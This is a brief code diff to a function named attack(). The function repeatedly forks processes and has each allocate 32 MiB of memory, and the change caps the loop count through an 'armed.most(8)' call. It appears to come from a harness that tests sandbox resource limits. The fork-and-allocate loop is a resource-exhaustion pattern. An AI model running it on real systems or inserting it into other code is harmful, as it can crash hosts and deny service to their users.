@@ -19,6 +19,6 @@ def attack():
                     pass
         except OSError:
             pass
-    for _ in range(8):
+    for _ in range(armed.most(8)):
         os.fork()
         held.append(bytearray(b"x" * (32 << 20)))
